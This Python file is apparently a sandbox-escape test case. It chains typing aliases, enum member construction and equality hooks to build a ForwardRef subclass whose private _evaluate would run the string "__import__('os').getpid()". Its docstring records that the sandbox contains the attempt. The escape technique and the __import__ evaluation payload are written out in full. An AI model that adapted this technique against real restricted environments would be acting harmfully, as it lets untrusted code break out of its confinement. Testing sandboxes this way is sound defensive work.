"""Changes what an alias stands for while a class statement derives from it.

An enumeration that takes the alias's own class for a member calls its `__init__` again. The base
was to be `ForwardRef`, whose private method evaluates text: all of Python.

Contained: `type` does not hand out the classes of aliases.
"""

from enum import Enum
from typing import Generic, List, Union

TEXT = "__import__('os').getpid()"
CAUGHT = []


class Twin:
    def __call__(self):
        return None

    def __eq__(self, other):
        CAUGHT.append(other)
        return False

    def __hash__(self):
        return hash((TEXT, None))


def renewed(alias, origin):
    class Members(Enum):
        def __new__(cls, *args):
            return type(alias)

        A = (alias, origin, (int,))


class Trigger:
    def __init__(self, alias):
        self.alias = alias

    def __eq__(self, other):
        renewed(
            self.alias, next(kind for kind in map(type, CAUGHT) if kind.__name__ == "ForwardRef")
        )
        return False

    def __hash__(self):
        return 1


def attack():
    try:
        Union[Twin(), TEXT]
    except TypeError:
        pass
    kind = type(List[int])
    last = kind(dict, (int,))
    first, second = (kind(Generic, (Trigger(last),)) for _ in range(2))

    class Evaluator(first, second, last, _root=True):
        pass

    return f"escaped: {Evaluator(TEXT)._evaluate({}, {}, frozenset())}"
